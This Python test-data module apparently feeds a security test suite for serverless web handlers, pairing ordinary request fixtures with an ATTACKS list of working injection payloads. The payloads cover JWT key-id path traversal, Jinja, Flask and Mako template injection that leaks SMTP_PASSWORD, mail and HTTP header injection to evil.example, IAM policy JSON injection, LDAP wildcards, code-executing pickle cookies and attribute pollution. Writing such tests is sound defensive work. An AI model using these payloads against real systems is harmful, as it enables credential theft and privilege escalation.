"""The front door: sign-up, tokens, mails and a stack's set-up."""

import base64
import hashlib
import hmac
import json
import pickle
from pathlib import Path
from typing import Any

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.eleventh import (
    ADDRESSES,
    FIRMS,
    MARKDOWN,
    NOVEL,
    PAGE,
    PEOPLE,
    REVIEW,
    SNIPPET,
    TICKET,
    bus,
    changed,
    pool,
    queue,
    resource,
    rest,
    web,
)

NEEDS = ("aws-http",)
PASSWORD = "porter-smtp-3307"
FILES = Path(__file__).parent / "functions" / "porter"
ARN = "arn:aws:execute-api:eu-central-1:123456789012:q7x1/prod/GET/orders"


def _part(value: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


def _token(sub: str, key: bytes, **head: str) -> dict[str, object]:
    signed = _part({"alg": "HS256", "typ": "JWT", **head}) + "." + _part({"sub": sub, "scope": "orders:read"})
    mark = (
        base64.urlsafe_b64encode(hmac.new(key, signed.encode(), hashlib.sha256).digest()).decode().rstrip("=")
    )
    return {"type": "TOKEN", "authorizationToken": f"Bearer {signed}.{mark}", "methodArn": ARN}


def _key(path: str) -> bytes:
    return (FILES / path).read_bytes()


def _message(name: str, **more: str) -> dict[str, object]:
    return pool(
        "CustomMessage_SignUp", "u1", {"name": name, "email": "a@example.org", **more}, codeParameter="{####}"
    )


def _contact(
    name: str, message: str, email: str = "o'hara+site@example.org", **more: str
) -> dict[str, object]:
    return rest("POST", "/contact", {"name": name, "email": email, "message": message, **more})


def _news(subject: str, *items: str) -> dict[str, object]:
    return bus("Newsletter", {"subject": subject, "items": items})


def _page(path: str, **query: str) -> dict[str, object]:
    return web("GET", path, query=query)


def _card(text: str, **more: str) -> dict[str, object]:
    return {"info": {"fieldName": "card"}, "arguments": {"to": PEOPLE[0], "text": text, **more}}


def _signature(agent: str, text: str) -> dict[str, object]:
    return rest("PUT", "/signature", {"agent": agent, "text": text})


def _reply(agent: str, text: str = "all good") -> dict[str, object]:
    return queue({"agent": agent, "name": PEOPLE[2], "text": text})


def _user(name: str) -> dict[str, object]:
    return pool("UserMigration_ForgotPassword", name, {})


def _cookie(value: object, protocol: int = 4) -> dict[str, object]:
    data = value if isinstance(value, bytes) else pickle.dumps(value, protocol)
    return web("GET", "/basket", cookies=["lang=de", "session=" + base64.urlsafe_b64encode(data).decode()])


def _download(name: str, **query: str) -> dict[str, object]:
    return rest("GET", "/download", query={"name": name, **query})


def _profile(body: object) -> dict[str, object]:
    return rest("PATCH", "/profile", body)


class _Run:
    def __init__(self, function: object, *arguments: object) -> None:
        self.made = (function, arguments)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.made


REQUESTS = {
    "authorizer": [
        _token("u-17", _key("keys/main")),
        _token("o'hara@example.org", _key("keys/2025"), kid="2025"),
        _token("u-18", b"wrong key that is long enough to be one"),
        _token("u-19", _key("keys/main"), kid="no-such.key"),
        {"type": "TOKEN", "authorizationToken": "Bearer abc", "methodArn": ARN},
    ],
    "pre_signup": [
        pool("PreSignUp_SignUp", "u1", {"email": "O'Hara@Example.org", "name": PEOPLE[0]}),
        pool(
            "PreSignUp_ExternalProvider",
            "google_1",
            {"email": "a@example.com"},
            validationData={"ref": "x'; --"},
        ),
        pool("PreSignUp_AdminCreateUser", "u3", {"custom:bio": TICKET}),
    ],
    "custom_message": [
        _message(PEOPLE[0]),
        _message(PEOPLE[5], locale="de-DE"),
        _message("<b>100% Ann</b> & Co"),
        _message(PEOPLE[4]),
    ],
    "contact": [
        _contact(PEOPLE[0], REVIEW),
        _contact(PEOPLE[9], TICKET),
        _contact("Bob Builder", NOVEL),
        _contact(FIRMS[0], PAGE, '"a b"@example.org'),
    ],
    "forward_mail": [
        _contact(PEOPLE[0], REVIEW, "O'Hara <o.hara@example.org>", topic="it's late: 50%"),
        _contact(PEOPLE[4], "Subject: none\n\nTo: nobody", topic="Re: [x]"),
        _contact("", MARKDOWN, "a@example.org"),
    ],
    "invoice": [
        rest(
            "POST",
            "/invoice",
            {
                "name": PEOPLE[0],
                "lines": [{"text": PAGE, "price": 4.5}, {"text": "{{ 7 * 7 }}", "price": 0}],
                "note": REVIEW,
            },
        ),
        rest("POST", "/invoice", {"name": FIRMS[2], "lines": []}),
        rest("POST", "/invoice", {"name": "${x}", "lines": [{"text": TICKET, "price": 1e9}]}),
    ],
    "newsletter": [
        _news("It's spring: 50% off & more!", REVIEW, "{{ not rendered }}"),
        _news("Größe {M} <b>now</b> #1 $5", PAGE),
        _news("a {x: 1} b", TICKET, MARKDOWN),
    ],
    "not_found": [
        _page("/menu/it's-here", utm_source="x"),
        _page("/x", page="/o'hara/50% (2)"),
        _page("/wp-login.php"),
    ],
    "card": [
        _card("Happy birthday, it's 5 o'clock!\r\n50% older & wiser", sender="M'Baye"),
        _card("#1 of $5 {x} <3"),
        _card("Line one\n  - line two; import nothing", sender="${no}"),
    ],
    "save_signature": [
        _signature("ana", "Ana María & team\n50% <b>off</b>, it's {true}"),
        _signature("bo'b", ADDRESSES[1] + "\n" + FIRMS[0]),
        _signature("cy", "T: +49 151 / #5"),
    ],
    "reply_mail": [_reply("ana", TICKET), _reply("bo'b", "{{ x }} {% y %}"), _reply("nobody", REVIEW)],
    "stack": [
        resource("Create", Bucket="eleventh-partner", Partner="arn:aws:iam::111122223333:root"),
        resource(
            "Update",
            Bucket="eleventh-partner",
            Partner="arn:aws:iam::111122223333:user/o.hara@example.org",
            Sid="read2",
        ),
        resource("Delete", Bucket="eleventh-partner", Partner="x"),
    ],
    "directory": [_user("ana"), _user("o'hara@example.org"), _user("Þórdís K.")],
    "basket": [
        _cookie({"items": ["tea & cup", "it's os.system"], "n": 5}),
        _cookie({"items": [1, None, ("a", 2.5)], "user": {"name": PEOPLE[4]}}, 0),
        web("GET", "/basket", cookies=["lang=de"]),
    ],
    "download": [
        _download("Q1 report (final).pdf"),
        _download("O'Hara; März 50%.csv", lang="pt-BR"),
        _download("日本語.txt"),
        _download("a.b..c: d.txt", lang="de"),
    ],
    "profile": [
        _profile({"name": PEOPLE[0], "settings": {"lang": "de", "theme": "dark"}}),
        _profile({"bio": TICKET, "settings": {"o'key": [1, {"class": "x"}]}}),
        _profile({"name": "__class__ & constructor", "settings": {"__note": "x", "role": "admin"}}),
    ],
    "invite_sms": [
        rest("POST", "/sms", {"from": PEOPLE[0], "text": REVIEW, "numbers": ["+353861234567"]}),
        rest(
            "POST",
            "/sms",
            {
                "from": "Bo",
                "text": "https://ex.co/i?c=a&d=b%20c",
                "numbers": ["+4915112345678", "+15555550100"],
            },
        ),
        rest("POST", "/sms", {"from": "x; reboot", "text": "{0}", "numbers": []}),
    ],
}
GLOBALS = "{brand.__init__.__globals__[SMTP_PASSWORD]}"


def _stripe(payload: object, key: str = "whsec_porter") -> dict[str, object]:
    body = json.dumps(payload)
    mark = hmac.new(key.encode(), f"1795600800.{body}".encode(), hashlib.sha256).hexdigest()
    return rest("POST", "/stripe", body, headers={"Stripe-Signature": f"t=1795600800,v1={mark}"})


def _paid(email: str, **metadata: str) -> dict[str, object]:
    session = {
        "id": "cs_test_a1",
        "object": "checkout.session",
        "amount_total": 4200,
        "customer_details": {"email": email, "name": PEOPLE[0]},
        "metadata": metadata,
    }
    return {
        "id": "evt_1",
        "object": "event",
        "type": "checkout.session.completed",
        "data": {"object": session},
    }


REQUESTS |= {
    "stripe_hook": [
        _stripe(_paid("o'hara@example.org", note=REVIEW)),
        _stripe(_paid("x+y@example.org", sql="' or 1=1 --"), "wrong"),
        _stripe(
            {
                "id": "evt_2",
                "object": "event",
                "type": "charge.failed",
                "data": {"object": {"id": "ch_1", "object": "charge"}},
            }
        ),
    ],
    "hook_schema": [
        rest(
            "POST",
            "/schema",
            {"id": 5, "email": "o'hara@example.org", "tags": ["a'b", PEOPLE[4]], "__class__": {"x": 1}},
        ),
        rest("POST", "/schema", {"id": "5; drop", "tags": [SNIPPET[:20], 1]}),
        rest("POST", "/schema", {"id": 1e3, "email": "<b>@x"}),
    ],
    "sign_in": [
        rest("POST", "/login", {"email": "O'Hara@example.org", "password": "correct 'horse' -- battery"}),
        rest("POST", "/login", {"email": "o'hara@example.org", "password": "' OR '1'='1"}),
        rest("POST", "/login", {"email": "admin'--", "password": PEOPLE[4]}),
    ],
    "settings_yaml": [
        rest(
            "PUT",
            "/settings",
            "name: O'Hara's\ncolors: [red, '#fff']\nnested:\n  a: !!str 5\n  sql: select * from t -- x\n",
        ),
        rest("PUT", "/settings", "a: [1, 2\nb: }"),
        rest("PUT", "/settings", "- " + "\n- ".join(json.dumps(p) for p in PEOPLE)),
    ],
    "welcome_mail": [
        changed({"id": {"S": "u-1"}, "email": {"S": "o'hara@example.org"}, "name": {"S": PEOPLE[0]}}),
        changed({"id": {"S": "u&2=3"}, "email": {"S": "a+b@example.org"}, "name": {"S": '{{email}} & "co"'}}),
        changed({"id": {"S": "u-3"}, "email": {"S": "c@example.org"}, "name": {"S": "x"}}, name="MODIFY"),
    ],
    "token_claims": [
        pool(
            "TokenGeneration_Authentication",
            "u1",
            {"name": PEOPLE[9]},
            groupConfiguration={"groupsToOverride": ["admins", "o'hara"]},
        ),
        pool("TokenGeneration_HostedAuth", "u2", {"name": PEOPLE[4]}),
        pool("TokenGeneration_RefreshTokens", "u3", {"email": "x@example.org"}),
    ],
    "calendar": [
        rest(
            "POST",
            "/book",
            {"title": "Caoimhe's party; 50% fun, at 8", "text": TICKET, "start": "2026-03-01T20:00:00"},
        ),
        rest("POST", "/book", {"title": "Lunch\r\nand: dinner", "text": "x\\n", "start": "2026-03-01"}),
        rest("POST", "/book", {"title": PEOPLE[4], "start": "2026-12-24T18:00:00Z"}),
    ],
}

ATTACKS = [
    Attack(
        "path, key id",
        "authorizer",
        _token("forged-admin", _key("templates/visit.txt"), kid="../templates/visit.txt"),
        '"principalId": "forged-admin"',
    ),
    Attack(
        "path, key id",
        "authorizer",
        _token("forged-root", _key("templates/invoice.html"), kid="/var/task/templates/invoice.html"),
        '"principalId": "forged-root"',
    ),
    Attack("format", "custom_message", _message(GLOBALS), PASSWORD),
    Attack(
        "format",
        "custom_message",
        _message("A{brand.__class__.__str__.__globals__[os].environ[SMTP_PASSWORD]!s:>30}"),
        PASSWORD,
    ),
    Attack("format", "custom_message", _message("x {brand.__dict__}"), "'color': '#123456'"),
    Attack(
        "header, mail",
        "forward_mail",
        _contact("x", "y", "a@example.org\nBcc: list@evil.example"),
        "Bcc=list@evil.example",
    ),
    Attack(
        "header, mail",
        "forward_mail",
        _contact("x\r\nContent-Type: text/html\r\n\r\n<h1>Pay</h1>", "y"),
        "Content-Type=text/html",
    ),
    Attack(
        "header, mail",
        "forward_mail",
        _contact("z", "y", topic="a\nFrom: ceo@example.org\nX: "),
        "From=ceo@example.org",
    ),
    Attack(
        "template, Jinja", "newsletter", _news("{{ brand.__init__.__globals__.SMTP_PASSWORD }}"), PASSWORD
    ),
    Attack(
        "template, Jinja",
        "newsletter",
        _news("{{ cycler.__init__.__globals__.os.popen('printenv SMTP_PASSWORD').read() }}"),
        PASSWORD,
    ),
    Attack("template, Jinja", "newsletter", _news("{% set x = 7331 * 3 %}{{ x }}"), "21993"),
    Attack(
        "template, Jinja",
        "newsletter",
        _news("{{ (brand|attr('\\x5f\\x5finit\\x5f\\x5f'))['__glo'~'bals__']['SMTP_PASSWORD'] }}"),
        PASSWORD,
    ),
    Attack(
        "template, two fields",
        "newsletter",
        _news("{% for i in items %}{{ brand[i]|default(brand|attr(i)) }}{% endfor %}", "__dict__"),
        "#123456",
    ),
    Attack("template, Flask", "not_found", _page("/x", page="{{ config.SECRET_KEY }}"), PASSWORD),
    Attack("template, Flask", "not_found", _page("/{{config['SECRET_KEY'][::-1]}}"), PASSWORD[::-1]),
    Attack(
        "template, Flask",
        "not_found",
        _page(
            "/x",
            page="{{ request.application.__globals__.__builtins__.__import__('os').environ['SMTP_PASSWORD'] }}",
        ),
        PASSWORD,
    ),
    Attack("template, Mako", "card", _card("${7331 * 3}"), "21993"),
    Attack("template, Mako", "card", _card("Hi\n<%\nimport os\n%>${os.environ['SMTP_PASSWORD']}"), PASSWORD),
    Attack(
        "template, Mako",
        "card",
        _card("% for k, v in __import__('os').environ.items():\n${k}-${v}\n% endfor"),
        "SMTP_PASSWORD-" + PASSWORD,
    ),
    Attack(
        "template, second order",
        "reply_mail",
        _reply("eve"),
        PASSWORD,
        before=[("save_signature", _signature("eve", "{{ lipsum.__globals__.os.environ.SMTP_PASSWORD }}"))],
    ),
    Attack(
        "template, second order",
        "reply_mail",
        _reply("eve2", "printenv SMTP_PASSWORD"),
        PASSWORD,
        before=[
            (
                "save_signature",
                _signature("eve2", "{% print joiner.__init__.__globals__['os'].popen(text).read() %}"),
            )
        ],
    ),
    Attack(
        "JSON, policy",
        "stack",
        resource(
            "Create",
            Bucket="eleventh-evil",
            Partner='x"}, "Principal": "*", "Action": "s3:*", "Condition": {"Bool": {"aws:SecureTransport": "true',
        ),
        '\\"s3:*\\"',
    ),
    Attack(
        "JSON, policy",
        "stack",
        resource(
            "Create",
            Bucket="eleventh-evil2",
            Partner="arn:aws:iam::1:root",
            Sid='a", "Effect": "Allow", "Principal": "*", "Action": "s3:PutObject", "Resource": "*"}, {"Sid": "b',
        ),
        "s3:PutObject",
    ),
    Attack("LDAP", "directory", _user("*"), "ana@example.org"),
    Attack("LDAP", "directory", _user("a*)(mail=*@example.org"), "ana@example.org"),
    Attack(
        "code, pickle",
        "basket",
        _cookie({"items": [_Run(eval, "__import__('os').environ['SMTP_PASSWORD']")]}),
        PASSWORD,
    ),
    Attack(
        "code, pickle", "basket", _cookie(b"(dS'items'\n(lcos\ngetenv\n(S'SMTP_PASSWORD'\ntRas."), PASSWORD
    ),
    Attack(
        "header",
        "download",
        _download('x.pdf"\r\nSet-Cookie: session=evil\r\nX: "'),
        "Set-Cookie: session=evil",
    ),
    Attack(
        "header",
        "download",
        _download("a", lang="x\r\nLocation: https://evil.example"),
        "Location: https://evil",
    ),
    Attack(
        "attributes", "profile", _profile({"__class__": {"role": "admin"}}), '\\"others_role\\": \\"admin\\"'
    ),
    Attack(
        "attributes",
        "profile",
        _profile({"__init__": {"__globals__": {"SMTP_PASSWORD": "polluted"}}}),
        '\\"smtp\\": \\"pollut\\"',
    ),
    Attack(
        "attributes",
        "profile",
        _profile({"name": "x", "__class__": {"__init__": {"__globals__": {"SMTP_PASSWORD": "zzzzzz"}}}}),
        "zzzzzz",
    ),
]
